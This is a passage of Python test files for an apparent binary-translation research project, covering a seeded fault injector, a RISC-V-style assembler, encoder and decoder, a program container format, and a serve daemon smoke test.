    corrupt_codegen_cache,
    corrupt_finalized_block,
    corrupt_schedule,
    corrupt_sweep_cache,
    corrupt_translated_block,
    drop_finalized,
    poison_codegen,
)
from repro.security.policy import MitigationPolicy


def test_site_partition_is_total():
    groups = [set(ENGINE_SITES), set(RUNNER_SITES), set(TRACE_SITES),
              set(SERVE_SITES)]
    assert set().union(*groups) == set(FaultSite)
    for i, left in enumerate(groups):
        for right in groups[i + 1:]:
            assert not left & right


def test_trace_sites_fire_first_opportunity_without_shifting_plans():
    """Trace sites fire deterministically on their first opportunity and
    stay out of the seeded RNG stream: the original sites' triggers are
    identical whether or not the trace sites exist in the enum."""
    injector = FaultInjector(seed=11)
    for site in TRACE_SITES:
        assert injector._trigger[site] == 1
        assert injector.should_fire(site)
    # Same draw sequence as a pre-trace-site injector: engine sites draw
    # from randint(1, 2) in value-sorted order.
    reference = random.Random(11)
    expected = {site: reference.randint(1, 2)
                for site in sorted(ENGINE_SITES, key=lambda s: s.value)}
    assert {site: injector._trigger[site]
            for site in ENGINE_SITES} == expected


def test_same_seed_same_plan():
    a, b = FaultInjector(seed=7), FaultInjector(seed=7)
    for _ in range(5):
        for site in FaultSite:
            assert a.should_fire(site) == b.should_fire(site)
    assert a._trigger == b._trigger


def test_plan_independent_of_armed_subset():
    """The seed alone decides the plan; arming fewer sites must not
    shift when the remaining ones fire."""
    full = FaultInjector(seed=3)
    only_one = FaultInjector(seed=3, sites=[FaultSite.TCACHE_CORRUPT])
    assert full._trigger == only_one._trigger


def test_runner_sites_fire_first_opportunity():
    injector = FaultInjector(seed=11)
    for site in RUNNER_SITES:
        assert injector.should_fire(site)


def test_fires_per_site_bounds_firing():
    injector = FaultInjector(seed=0, fires_per_site=1)
    site = FaultSite.SWEEPCACHE_CORRUPT  # trigger == 1, fires immediately
    assert injector.should_fire(site)
    injector.record(site, "x")
    for _ in range(10):
        assert not injector.should_fire(site)
    assert injector.fired_sites() == [site]


def test_unarmed_site_never_fires():
    injector = FaultInjector(seed=0, sites=[FaultSite.TCACHE_EVICT])
    assert not injector.armed(FaultSite.WORKER_CRASH)
    for _ in range(10):
        assert not injector.should_fire(FaultSite.WORKER_CRASH)


def test_refund_rearms_for_next_opportunity():
    injector = FaultInjector(seed=0, sites=[FaultSite.SCHED_DROP_CONSTRAINT])
    site = FaultSite.SCHED_DROP_CONSTRAINT
    fired_at = None
    for opportunity in range(1, 10):
        if injector.should_fire(site):
            fired_at = opportunity
            break
    assert fired_at is not None
    injector.refund(site)
    # Re-armed: the very next opportunity fires again.
    assert injector.armed(site)
    assert injector.should_fire(site)


def _optimized_blocks(policy=MitigationPolicy.UNSAFE):
    program = build_kernel_program(SMALL_SIZES["atax"]())
    system = DbtSystem(program, policy=policy,
                       engine_config=DbtEngineConfig(hot_threshold=4))
    system.run()
    blocks = [block for block in system.engine.cache.blocks()
              if block.kind == "optimized"]
    assert blocks
    return blocks


def test_corrupt_translated_block_breaks_execution():
    block = _optimized_blocks()[0]
    before = len(block.bundles)
    detail = corrupt_translated_block(block)
    assert len(block.bundles) == before - 1
    assert "truncated" in detail


def test_corrupt_finalized_block_poisons_ordinal():
    from repro.vliw.config import VliwConfig
    from repro.vliw.fastpath import finalize_block

    block = _optimized_blocks()[0]
    finalize_block(block, VliwConfig())
    detail = corrupt_finalized_block(block)
    assert detail is not None
    assert block._finalized.bundles[0][0][0][0] == 99  # BAD_ORDINAL


def test_corrupt_finalized_block_requires_finalized_form():
    block = _optimized_blocks()[0]
    drop_finalized(block)
    assert corrupt_finalized_block(block) is None


def test_corrupt_schedule_clears_speculative_marker():
    for block in _optimized_blocks():
        if block.speculative_loads:
            spec_before = sum(
                1 for bundle in block.bundles for op in bundle
                if op.speculative)
            detail = corrupt_schedule(block)
            assert "speculative marker" in detail
            spec_after = sum(
                1 for bundle in block.bundles for op in bundle
                if op.speculative)
            assert spec_after == spec_before - 1
            return
    pytest.skip("no speculative block in the UNSAFE atax run")


def test_corrupt_finalized_block_drops_stale_compiled_form():
    """The compiled host function was generated from the then-clean
    lowering; keeping it would mask the poisoned ordinal entirely."""
    from repro.vliw.codegen import ensure_compiled
    from repro.vliw.config import VliwConfig
    from repro.vliw.fastpath import finalize_block

    block = _optimized_blocks()[0]
    fblock = finalize_block(block, VliwConfig())
    ensure_compiled(fblock)
    assert fblock.compiled is not None
    assert corrupt_finalized_block(block) is not None
    assert fblock.compiled is None
    assert fblock.persist_key is None


def test_poison_codegen_installs_raising_fn():
    """Clearing ``compiled`` would be masked by the tiering fallback
    (uncompiled blocks run on the fast interpreter); the poison must be
    an installed function that raises on dispatch."""
    from repro.vliw.config import VliwConfig
    from repro.vliw.fastpath import finalize_block
    from repro.vliw.pipeline import VliwExecutionError

    block = _optimized_blocks()[0]
    fblock = finalize_block(block, VliwConfig())
    detail = poison_codegen(block)
    assert "poisoned" in detail
    assert block._codegen_poison
    while fblock is not None:
        assert fblock.compiled is not None
        assert fblock.persist_key is None
        with pytest.raises(VliwExecutionError):
            fblock.compiled(None, None)
        fblock = fblock.recovery


def test_corrupt_codegen_cache_flips_a_byte(tmp_path):
    target = tmp_path / "deadbeef.codegen.json"
    target.write_text('{"code": "QUFBQQ=="}')
    before = target.read_bytes()
    detail = corrupt_codegen_cache(tmp_path, random.Random(0))
    assert detail is not None and "deadbeef.codegen.json" in detail
    after = target.read_bytes()
    assert after != before and len(after) == len(before)


def test_corrupt_codegen_cache_empty_dir(tmp_path):
    assert corrupt_codegen_cache(tmp_path, random.Random(0)) is None


def test_corrupt_sweep_cache_flips_a_byte(tmp_path):
    target = tmp_path / "record.json"
    target.write_text('{"payload": 1}')
    before = target.read_bytes()
    detail = corrupt_sweep_cache(tmp_path, random.Random(0))
    assert detail is not None and "record.json" in detail
    after = target.read_bytes()
    assert after != before and len(after) == len(before)


def test_corrupt_sweep_cache_empty_dir(tmp_path):
    assert corrupt_sweep_cache(tmp_path, random.Random(0)) is None


def test_apply_worker_fault_none_and_unknown():
    apply_worker_fault(None)  # no-op
    with pytest.raises(ValueError):
        apply_worker_fault(WorkerFault("melt"))


def test_apply_worker_fault_hang_then_proceeds():
    apply_worker_fault(WorkerFault("hang", seconds=0.01))  # returns
