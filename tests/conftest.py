"""Shared fixtures and helpers for the test suite."""

from __future__ import annotations

import pytest

from repro.isa.assembler import assemble
from repro.interp.executor import Interpreter, run_program
from repro.platform.system import DbtSystem
from repro.security.policy import MitigationPolicy
from repro.dbt.engine import DbtEngineConfig


def run_exit_code(source: str) -> int:
    """Assemble and interpret ``source``; return the guest exit code."""
    return run_program(assemble(source)).exit_code


def run_both(source: str, policy: MitigationPolicy = MitigationPolicy.UNSAFE):
    """Run ``source`` on the interpreter and the DBT platform; return
    (interpreter result, platform result) after asserting equal exits."""
    program = assemble(source)
    reference = run_program(program)
    system = DbtSystem(program, policy=policy)
    platform = system.run()
    assert platform.exit_code == reference.exit_code, (
        "platform diverged: %d != %d" % (platform.exit_code, reference.exit_code)
    )
    return reference, platform


@pytest.fixture
def fast_engine_config() -> DbtEngineConfig:
    """An engine that optimizes almost immediately (fast-running tests)."""
    return DbtEngineConfig(hot_threshold=4)


EXIT_SNIPPET = """
    li a7, 93
    ecall
"""
