"""Assembler tests: syntax, directives, pseudo-instructions, errors."""

import pytest

from repro.isa.assembler import AssemblerError, assemble
from repro.isa.opcodes import Mnemonic
from repro.isa.program import DEFAULT_TEXT_BASE


def _first(source: str):
    return next(assemble(source).instructions())


def test_empty_program_has_empty_text():
    program = assemble("# nothing but a comment\n")
    assert program.text == b""


def test_basic_instruction():
    inst = _first("addi a0, a1, 42")
    assert inst.mnemonic is Mnemonic.ADDI
    assert inst.rd == 10 and inst.rs1 == 11 and inst.imm == 42


def test_memory_operand_syntax():
    inst = _first("ld t0, -8(sp)")
    assert inst.mnemonic is Mnemonic.LD
    assert inst.rs1 == 2 and inst.imm == -8


def test_store_operand_order():
    inst = _first("sd t1, 16(a0)")
    assert inst.rs2 == 6 and inst.rs1 == 10 and inst.imm == 16


def test_label_branch_resolution():
    program = assemble("""
start:
    addi t0, t0, 1
    beq t0, t1, start
""")
    branch = list(program.instructions())[1]
    assert branch.imm == -4


def test_forward_reference():
    program = assemble("""
    j end
    nop
end:
    nop
""")
    jump = next(program.instructions())
    assert jump.imm == 8


def test_undefined_symbol_raises():
    with pytest.raises(AssemblerError, match="undefined symbol"):
        assemble("j nowhere")


def test_duplicate_label_raises():
    with pytest.raises(AssemblerError, match="duplicate"):
        assemble("a:\na:\n  nop")


def test_unknown_instruction_raises():
    with pytest.raises(AssemblerError, match="unknown instruction"):
        assemble("frobnicate t0, t1")


def test_comments_and_multiple_labels():
    program = assemble("""
one: two:  addi x0, x0, 0  # trailing comment
; full-line comment
""")
    assert program.symbol("one") == program.symbol("two") == DEFAULT_TEXT_BASE


def test_equ_constants():
    program = assemble("""
.equ N, 12
    li t0, N
    addi t1, t0, N
""")
    instructions = list(program.instructions())
    assert instructions[0].imm == 12
    assert instructions[1].imm == 12


def test_li_small_expands_to_addi():
    inst = _first("li a0, -3")
    assert inst.mnemonic is Mnemonic.ADDI and inst.imm == -3


def test_li_32bit_expands_to_lui_pair():
    program = assemble("li a0, 0x12345678")
    ops = [inst.mnemonic for inst in program.instructions()]
    assert ops == [Mnemonic.LUI, Mnemonic.ADDIW]


def test_li_rounding_carry():
    # Low 12 bits >= 0x800 force a carry into the lui immediate.
    from repro.interp.executor import Interpreter
    interp = Interpreter(assemble("li a0, 0x12345FFF\nebreak"))
    try:
        interp.run()
    except Exception:
        pass
    assert interp.state.read(10) == 0x12345FFF


def test_li_64bit_value():
    from repro.interp.executor import Interpreter
    interp = Interpreter(assemble("li a0, 0x123456789ABCDEF0\nebreak"))
    try:
        interp.run()
    except Exception:
        pass
    assert interp.state.read(10) == 0x123456789ABCDEF0


def test_li_negative_64bit():
    from repro.interp.executor import Interpreter
    interp = Interpreter(assemble("li a0, -81985529216486895\nebreak"))
    try:
        interp.run()
    except Exception:
        pass
    assert interp.state.read(10) == (-81985529216486895) & ((1 << 64) - 1)


def test_la_resolves_data_symbol():
    program = assemble("""
    la a0, table
.data
table:
    .dword 1
""")
    from repro.interp.executor import Interpreter
    interp = Interpreter(assemble("""
    la a0, table
    ebreak
.data
table:
    .dword 1
"""))
    try:
        interp.run()
    except Exception:
        pass
    assert interp.state.read(10) == program.symbol("table")


def test_pseudo_instructions_exist():
    source = """
    nop
    mv t0, t1
    not t0, t1
    neg t0, t1
    seqz t0, t1
    snez t0, t1
    jr ra
    ret
    rdcycle t3
    beqz t0, end
    bnez t0, end
    bgt t0, t1, end
    ble t0, t1, end
    bgtu t0, t1, end
    bleu t0, t1, end
    blez t0, end
    bgez t0, end
    bltz t0, end
    bgtz t0, end
end:
    nop
"""
    program = assemble(source)
    assert program.instruction_count() == 20  # 19 pseudo ops + final nop


def test_data_directives():
    program = assemble("""
.data
bytes:
    .byte 1, 2, 255
halfs:
    .half 0x1234
words:
    .word -1
dwords:
    .dword 0x1122334455667788
space:
    .space 3
""")
    data = program.data
    assert data[0:3] == bytes([1, 2, 255])
    assert data[3:5] == (0x1234).to_bytes(2, "little")
    assert data[5:9] == b"\xff\xff\xff\xff"
    assert data[9:17] == (0x1122334455667788).to_bytes(8, "little")
    assert data[17:20] == b"\x00\x00\x00"


def test_dword_with_symbol_builds_pointer_table():
    program = assemble("""
.data
table:
    .dword payload
    .dword payload+16
payload:
    .space 32
""")
    payload = program.symbol("payload")
    first = int.from_bytes(program.data[0:8], "little")
    second = int.from_bytes(program.data[8:16], "little")
    assert first == payload
    assert second == payload + 16


def test_align_directive():
    program = assemble("""
.data
    .byte 1
    .align 3
v:
    .dword 2
""")
    assert program.symbol("v") % 8 == 0


def test_asciz():
    program = assemble("""
.data
msg:
    .asciz "hi\\n"
""")
    assert program.data[:4] == b"hi\n\x00"


def test_instructions_only_in_text():
    with pytest.raises(AssemblerError, match="only allowed in .text"):
        assemble(".data\n  addi t0, t0, 1")


def test_data_only_in_data():
    with pytest.raises(AssemblerError, match="only allowed in .data"):
        assemble(".word 5")


def test_entry_defaults_to_start_symbol():
    program = assemble("""
    nop
_start:
    nop
""")
    assert program.entry == DEFAULT_TEXT_BASE + 4


def test_immediate_out_of_range_reports_line():
    with pytest.raises(AssemblerError, match="line 2"):
        assemble("\naddi t0, t0, 100000")


def test_branch_to_numeric_offset_is_pc_relative():
    # A literal branch target is taken as a raw PC-relative offset.
    program = assemble("""
    beq t0, t1, 8
    nop
    nop
""")
    inst = next(program.instructions())
    assert inst.imm == 8


def test_hi_lo_relocations():
    from repro.interp.executor import run_program
    program = assemble("""
_start:
    lui t0, %hi(blob)
    ld a0, %lo(blob)(t0)
    addi t1, t0, %lo(blob)
    ld t2, 8(t1)
    add a0, a0, t2
    sd a0, %lo(blob+16)(t0)
    ld a0, %lo(blob+16)(t0)
    andi a0, a0, 0x7f
    li a7, 93
    ecall
.data
blob:
    .dword 40
    .dword 2
    .dword 0
""")
    assert run_program(program).exit_code == 42


def test_hi_in_itype_rejected():
    with pytest.raises(AssemblerError, match="hi"):
        assemble("""
    addi t0, t0, %hi(blob)
.data
blob:
    .dword 1
""")


def test_lo_in_lui_rejected():
    with pytest.raises(AssemblerError, match="lo"):
        assemble("""
    lui t0, %lo(blob)
.data
blob:
    .dword 1
""")


def test_hi_as_memory_offset_rejected():
    with pytest.raises(AssemblerError, match="lo"):
        assemble("""
    ld t0, %hi(blob)(t1)
.data
blob:
    .dword 1
""")


def test_reloc_with_equate():
    program = assemble("""
.equ BASE, 0x12345678
    lui t0, %hi(BASE)
    addi t0, t0, %lo(BASE)
    ebreak
""")
    from repro.interp.executor import Interpreter
    interp = Interpreter(program)
    try:
        interp.run()
    except Exception:
        pass
    assert interp.state.read(5) == 0x12345678
