"""Tests for the Program container and the disassembler."""

import pytest

from repro.isa.assembler import assemble
from repro.isa.disassembler import disassemble_program, disassemble_word, dump
from repro.isa.program import Program, SymbolError


def test_program_requires_word_aligned_text():
    with pytest.raises(ValueError):
        Program(text=b"\x00" * 5)
    with pytest.raises(ValueError):
        Program(text=b"", text_base=2)


def test_symbol_lookup():
    program = assemble("""
here:
    nop
.data
there:
    .byte 1
""")
    assert program.symbol("here") == program.text_base
    assert program.symbol("there") == program.data_base
    with pytest.raises(SymbolError):
        program.symbol("missing")


def test_word_and_instruction_access():
    program = assemble("addi t0, t0, 7")
    word = program.word_at(program.text_base)
    inst = program.instruction_at(program.text_base)
    assert word == (7 << 20) | (5 << 15) | (5 << 7) | 0b0010011
    assert inst.imm == 7
    with pytest.raises(ValueError):
        program.word_at(program.text_base - 4)


def test_segments_and_bounds():
    program = assemble("""
    nop
    nop
.data
    .word 1
""")
    segments = dict(program.segments())
    assert segments[program.text_base] == program.text
    assert segments[program.data_base] == program.data
    assert program.text_end == program.text_base + 8
    assert program.contains_text(program.text_base + 4)
    assert not program.contains_text(program.text_end)


def test_disassemble_word():
    assert disassemble_word(0x00000073) == "ecall"


def test_disassembler_roundtrips_through_assembler():
    source = """
_start:
    li t0, 5
    addi t1, t0, -3
    sub t2, t1, t0
    sd t2, 8(sp)
    ld t3, 8(sp)
    beq t2, t3, _start
    jal ra, _start
    jalr zero, 0(ra)
    ecall
"""
    program = assemble(source)
    listing = disassemble_program(program)
    assert len(listing) == program.instruction_count()
    # Reassembling each line (with numeric branch offsets) must re-encode
    # to the same words.
    for (address, text), expected in zip(listing, program.instructions()):
        reassembled = assemble(".text\n" + text)
        got = next(reassembled.instructions())
        assert got.mnemonic == expected.mnemonic
        assert (got.rd, got.rs1, got.rs2, got.imm) == (
            expected.rd, expected.rs1, expected.rs2, expected.imm,
        )


def test_dump_includes_labels():
    program = assemble("""
main:
    nop
""")
    text = dump(program)
    assert "main:" in text
    assert "%#08x" % program.text_base in text or "0x10000" in text
