"""Unit tests for the binary encoder (golden encodings per format)."""

import pytest

from repro.isa.encoding import EncodingError, encode, encode_bytes
from repro.isa.instruction import Instruction
from repro.isa.opcodes import Mnemonic


def test_encode_addi():
    # addi x1, x2, 5  -> imm=5, rs1=2, funct3=000, rd=1, opcode=0010011
    word = encode(Instruction(Mnemonic.ADDI, rd=1, rs1=2, imm=5))
    assert word == (5 << 20) | (2 << 15) | (0 << 12) | (1 << 7) | 0b0010011


def test_encode_add():
    word = encode(Instruction(Mnemonic.ADD, rd=3, rs1=4, rs2=5))
    assert word == (5 << 20) | (4 << 15) | (3 << 7) | 0b0110011


def test_encode_sub_sets_funct7():
    word = encode(Instruction(Mnemonic.SUB, rd=3, rs1=4, rs2=5))
    assert (word >> 25) == 0b0100000


def test_encode_mul_uses_m_extension_funct7():
    word = encode(Instruction(Mnemonic.MUL, rd=1, rs1=2, rs2=3))
    assert (word >> 25) == 0b0000001


def test_encode_negative_immediate():
    word = encode(Instruction(Mnemonic.ADDI, rd=1, rs1=1, imm=-1))
    assert (word >> 20) == 0xFFF


def test_encode_store_splits_immediate():
    # sd x5, 40(x2): imm 40 = 0b0101000 -> high=1, low=8
    word = encode(Instruction(Mnemonic.SD, rs1=2, rs2=5, imm=40))
    assert (word >> 25) == (40 >> 5)
    assert ((word >> 7) & 0x1F) == (40 & 0x1F)


def test_encode_branch_even_offsets_only():
    with pytest.raises(EncodingError):
        encode(Instruction(Mnemonic.BEQ, rs1=1, rs2=2, imm=3))


def test_encode_branch_offset_fields():
    # beq x0, x0, -4
    word = encode(Instruction(Mnemonic.BEQ, imm=-4))
    assert (word >> 31) == 1  # sign bit
    assert (word & 0x7F) == 0b1100011


def test_encode_jal_range():
    encode(Instruction(Mnemonic.JAL, rd=1, imm=(1 << 20) - 2))
    with pytest.raises(EncodingError):
        encode(Instruction(Mnemonic.JAL, rd=1, imm=1 << 20))
    with pytest.raises(EncodingError):
        encode(Instruction(Mnemonic.JAL, rd=1, imm=5))  # odd


def test_encode_lui_immediate_window():
    encode(Instruction(Mnemonic.LUI, rd=1, imm=-(1 << 19)))
    with pytest.raises(EncodingError):
        encode(Instruction(Mnemonic.LUI, rd=1, imm=1 << 20))


def test_encode_shift_amounts():
    word = encode(Instruction(Mnemonic.SLLI, rd=1, rs1=1, imm=63))
    assert ((word >> 20) & 0x3F) == 63
    with pytest.raises(EncodingError):
        encode(Instruction(Mnemonic.SLLI, rd=1, rs1=1, imm=64))
    # Word shifts only allow 5-bit amounts.
    with pytest.raises(EncodingError):
        encode(Instruction(Mnemonic.SLLIW, rd=1, rs1=1, imm=32))


def test_encode_srai_funct7():
    word = encode(Instruction(Mnemonic.SRAI, rd=1, rs1=1, imm=7))
    assert (word >> 26) == 0b010000


def test_encode_system_fixed_words():
    assert encode(Instruction(Mnemonic.ECALL)) == 0x00000073
    assert encode(Instruction(Mnemonic.EBREAK)) == 0x00100073


def test_encode_csr_number_in_immediate():
    word = encode(Instruction(Mnemonic.CSRRS, rd=5, imm=0xC00))
    assert (word >> 20) == 0xC00


def test_encode_register_out_of_range():
    with pytest.raises(EncodingError):
        encode(Instruction(Mnemonic.ADD, rd=32, rs1=0, rs2=0))


def test_encode_immediate_overflow():
    with pytest.raises(EncodingError):
        encode(Instruction(Mnemonic.ADDI, rd=1, rs1=1, imm=2048))
    with pytest.raises(EncodingError):
        encode(Instruction(Mnemonic.ADDI, rd=1, rs1=1, imm=-2049))


def test_encode_bytes_little_endian():
    raw = encode_bytes(Instruction(Mnemonic.ECALL))
    assert raw == b"\x73\x00\x00\x00"


def test_encode_cflush_custom_opcode():
    word = encode(Instruction(Mnemonic.CFLUSH, rs1=5, imm=16))
    assert (word & 0x7F) == 0b0001011
