"""Binary container (RPRO) round-trip and robustness tests."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.isa.assembler import assemble
from repro.isa.container import (
    ContainerError,
    from_bytes,
    is_container,
    load_program,
    save_program,
    to_bytes,
)
from repro.isa.program import Program
from repro.interp.executor import run_program

SOURCE = """
_start:
    la t0, blob
    ld a0, 0(t0)
    andi a0, a0, 0x7f
    li a7, 93
    ecall
.data
blob:
    .dword 0x2A
"""


def test_roundtrip_preserves_everything():
    program = assemble(SOURCE)
    clone = from_bytes(to_bytes(program))
    assert clone.text == program.text
    assert clone.data == program.data
    assert clone.text_base == program.text_base
    assert clone.data_base == program.data_base
    assert clone.entry == program.entry
    assert clone.symbols == program.symbols


def test_loaded_program_runs_identically():
    program = assemble(SOURCE)
    clone = from_bytes(to_bytes(program))
    assert run_program(clone).exit_code == run_program(program).exit_code == 0x2A


def test_file_roundtrip(tmp_path):
    program = assemble(SOURCE)
    path = tmp_path / "prog.bin"
    save_program(program, path)
    assert is_container(path.read_bytes())
    assert load_program(path).symbols == program.symbols


def test_is_container_rejects_text():
    assert not is_container(b"_start:\n  nop\n")
    assert not is_container(b"")


def test_bad_magic():
    with pytest.raises(ContainerError, match="magic"):
        from_bytes(b"NOPE" + b"\x00" * 64)


def test_truncated_header():
    with pytest.raises(ContainerError, match="truncated"):
        from_bytes(b"RPRO\x01\x00")


def test_truncated_images():
    program = assemble(SOURCE)
    raw = to_bytes(program)
    with pytest.raises(ContainerError, match="truncated"):
        from_bytes(raw[:50])


def test_unsupported_version():
    program = assemble("nop")
    raw = bytearray(to_bytes(program))
    raw[4] = 99
    with pytest.raises(ContainerError, match="version"):
        from_bytes(bytes(raw))


@given(
    st.binary(min_size=0, max_size=64).map(lambda b: b[:len(b) // 4 * 4]),
    st.dictionaries(
        st.text(min_size=1, max_size=16), st.integers(0, (1 << 64) - 1),
        max_size=8,
    ),
)
@settings(max_examples=50)
def test_property_roundtrip(text, symbols):
    program = Program(text=text, data=b"\x01\x02", symbols=symbols)
    clone = from_bytes(to_bytes(program))
    assert clone.text == program.text
    assert clone.data == program.data
    assert clone.symbols == program.symbols
