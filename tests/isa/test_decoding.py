"""Unit tests for the binary decoder."""

import pytest

from repro.isa.decoding import DecodingError, decode, decode_bytes
from repro.isa.encoding import encode
from repro.isa.instruction import Instruction
from repro.isa.opcodes import Mnemonic


def test_decode_addi():
    inst = decode(encode(Instruction(Mnemonic.ADDI, rd=1, rs1=2, imm=-7)))
    assert inst.mnemonic is Mnemonic.ADDI
    assert inst.rd == 1 and inst.rs1 == 2 and inst.imm == -7


def test_decode_attaches_address():
    inst = decode(0x00000073, address=0x1000)
    assert inst.mnemonic is Mnemonic.ECALL
    assert inst.address == 0x1000


def test_decode_branch_sign_extension():
    inst = decode(encode(Instruction(Mnemonic.BNE, rs1=3, rs2=4, imm=-4096)))
    assert inst.imm == -4096


def test_decode_jal_offset():
    inst = decode(encode(Instruction(Mnemonic.JAL, rd=1, imm=-1048576)))
    assert inst.imm == -1048576
    inst = decode(encode(Instruction(Mnemonic.JAL, rd=0, imm=2046)))
    assert inst.imm == 2046


def test_decode_rejects_unknown_major_opcode():
    with pytest.raises(DecodingError):
        decode(0x0000007F)


def test_decode_rejects_bad_funct_fields():
    # OP-REG with funct7 garbage.
    word = (0x7F << 25) | 0b0110011
    with pytest.raises(DecodingError):
        decode(word)


def test_decode_rejects_bad_system_word():
    with pytest.raises(DecodingError):
        decode((2 << 20) | 0x73)  # funct3=0, imm=2 is neither ecall nor ebreak


def test_decode_rejects_out_of_range_word():
    with pytest.raises(DecodingError):
        decode(1 << 32)
    with pytest.raises(DecodingError):
        decode(-1)


def test_decode_bytes_requires_four():
    with pytest.raises(DecodingError):
        decode_bytes(b"\x00" * 3)


def test_decode_shifts_distinguish_srai_srli():
    srai = decode(encode(Instruction(Mnemonic.SRAI, rd=1, rs1=2, imm=5)))
    srli = decode(encode(Instruction(Mnemonic.SRLI, rd=1, rs1=2, imm=5)))
    assert srai.mnemonic is Mnemonic.SRAI
    assert srli.mnemonic is Mnemonic.SRLI
    assert srai.imm == srli.imm == 5


def test_decode_rv64_shift_amount_uses_six_bits():
    inst = decode(encode(Instruction(Mnemonic.SRLI, rd=1, rs1=2, imm=45)))
    assert inst.imm == 45


def test_decode_csr():
    inst = decode(encode(Instruction(Mnemonic.CSRRS, rd=7, rs1=0, imm=0xC02)))
    assert inst.mnemonic is Mnemonic.CSRRS
    assert inst.imm == 0xC02


def test_decode_cflush():
    inst = decode(encode(Instruction(Mnemonic.CFLUSH, rs1=9, imm=-64)))
    assert inst.mnemonic is Mnemonic.CFLUSH
    assert inst.rs1 == 9 and inst.imm == -64
