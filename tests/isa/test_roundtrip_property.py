"""Property-based encode/decode round-trip over the whole ISA."""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.isa.decoding import decode
from repro.isa.encoding import encode
from repro.isa.instruction import Instruction
from repro.isa.opcodes import Format, Mnemonic, SPECS

_REG = st.integers(0, 31)


def _imm_for(spec) -> st.SearchStrategy:
    fmt = spec.fmt
    if fmt is Format.I:
        return st.integers(-2048, 2047)
    if fmt is Format.I_SHIFT:
        word_op = spec.mnemonic in (Mnemonic.SLLIW, Mnemonic.SRLIW, Mnemonic.SRAIW)
        return st.integers(0, 31 if word_op else 63)
    if fmt is Format.S:
        return st.integers(-2048, 2047)
    if fmt is Format.B:
        return st.integers(-2048, 2047).map(lambda v: v * 2)
    if fmt is Format.U:
        return st.integers(-(1 << 19), (1 << 19) - 1)
    if fmt is Format.J:
        return st.integers(-(1 << 19), (1 << 19) - 1).map(lambda v: v * 2)
    if fmt is Format.CSR:
        return st.integers(0, (1 << 12) - 1)
    return st.just(0)


@st.composite
def instructions(draw):
    mnemonic = draw(st.sampled_from(sorted(SPECS, key=lambda m: m.value)))
    spec = SPECS[mnemonic]
    return Instruction(
        mnemonic,
        rd=draw(_REG) if spec.fmt not in (Format.S, Format.B, Format.SYSTEM) else 0,
        rs1=draw(_REG) if spec.fmt not in (Format.U, Format.J, Format.SYSTEM) else 0,
        rs2=draw(_REG) if spec.fmt in (Format.R, Format.S, Format.B) else 0,
        imm=draw(_imm_for(spec)),
    )


@given(instructions())
@settings(max_examples=400)
def test_encode_decode_roundtrip(inst):
    word = encode(inst)
    assert 0 <= word < (1 << 32)
    decoded = decode(word)
    assert decoded == inst


@given(instructions())
@settings(max_examples=200)
def test_reencode_is_stable(inst):
    word = encode(inst)
    assert encode(decode(word)) == word
