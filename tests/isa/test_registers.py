"""Tests for register name parsing."""

import pytest

from repro.isa.registers import (
    ABI_NAMES,
    NUM_REGISTERS,
    UnknownRegisterError,
    is_valid_register,
    parse_register,
    register_name,
)


def test_abi_names_cover_all_registers():
    assert len(ABI_NAMES) == NUM_REGISTERS == 32


def test_parse_abi_names_roundtrip():
    for index, name in enumerate(ABI_NAMES):
        assert parse_register(name) == index
        assert register_name(index) == name


def test_parse_numeric_names():
    for index in range(NUM_REGISTERS):
        assert parse_register("x%d" % index) == index


def test_parse_is_case_insensitive_and_strips():
    assert parse_register(" SP ") == 2
    assert parse_register("X31") == 31


def test_fp_alias():
    assert parse_register("fp") == 8
    assert parse_register("s0") == 8


def test_unknown_register_raises():
    with pytest.raises(UnknownRegisterError):
        parse_register("x32")
    with pytest.raises(UnknownRegisterError):
        parse_register("bogus")


def test_register_name_range_check():
    with pytest.raises(UnknownRegisterError):
        register_name(32)
    with pytest.raises(UnknownRegisterError):
        register_name(-1)


def test_is_valid_register():
    assert is_valid_register(0)
    assert is_valid_register(31)
    assert not is_valid_register(32)
    assert not is_valid_register(-1)
