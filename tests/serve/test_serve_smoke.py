"""End-to-end smoke over a real unix socket and real processes: daemon
subprocess + ServeClient, worker SIGKILL mid-job, daemon SIGKILL +
journal replay.  This is the test the gating CI serve job runs."""

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from repro.serve import ServeClient, ServeError, execute_job
from repro.serve.journal import journal_events

_REPO_SRC = str(Path(__file__).resolve().parents[2] / "src")

_SWEEP_PAYLOAD = {"kind": "sweep", "kernels": ["atax"],
                  "policies": ["unsafe", "ghostbusters"],
                  "engine": {"hot_threshold": 4}}
_ATTACK_PAYLOAD = {"kind": "attack", "variant": "v1",
                   "policies": ["unsafe", "ghostbusters"]}


def _spawn_daemon(tmp_path, *extra):
    env = dict(os.environ)
    env["PYTHONPATH"] = _REPO_SRC
    socket_path = str(tmp_path / "serve.sock")
    args = [sys.executable, "-m", "repro", "serve",
            "--socket", socket_path,
            "--work-dir", str(tmp_path / "serve-work"),
            "--workers", "2", "--backoff", "0.1", *extra]
    child = subprocess.Popen(args, env=env, stdout=subprocess.PIPE,
                             stderr=subprocess.STDOUT, text=True)
    client = ServeClient(socket_path=socket_path)
    if not client.ping(retries=100, delay=0.1):
        child.kill()
        out = child.communicate()[0]
        pytest.fail("serve daemon never answered ping:\n%s" % out)
    return child, client, socket_path


def _stop(child):
    if child.poll() is None:
        child.terminate()
        try:
            child.wait(30)
        except subprocess.TimeoutExpired:
            child.kill()
            child.wait()


def test_socket_jobs_match_oneshot_and_survive_worker_kill(tmp_path):
    """One daemon, three scenes: sweep + attack results equal the
    one-shot library calls; a worker SIGKILLed mid-job is reaped and
    its job re-leased to a bit-identical completion."""
    child, client, _ = _spawn_daemon(tmp_path)
    try:
        sweep_job = client.submit(_SWEEP_PAYLOAD)
        attack_job = client.submit(_ATTACK_PAYLOAD)
        sweep = client.wait(sweep_job, timeout=300)
        attack = client.wait(attack_job, timeout=300)
        assert sweep["state"] == "done"
        assert attack["state"] == "done"
        # The acceptance bar: byte-for-byte the one-shot CLI's results.
        assert sweep["result"] == execute_job(_SWEEP_PAYLOAD)
        assert attack["result"] == execute_job(_ATTACK_PAYLOAD)

        # Scene 2: SIGKILL a worker while it holds a lease.
        slow = client.submit({"kind": "sleep", "seconds": 3.0})
        deadline = time.time() + 30
        victim = None
        while time.time() < deadline and victim is None:
            reply = client.request("job", job=slow)
            if reply.get("state") == "leased" and reply.get("worker"):
                victim = reply["worker"]
            else:
                time.sleep(0.05)
        assert victim, "sleep job never leased"
        os.kill(victim, signal.SIGKILL)
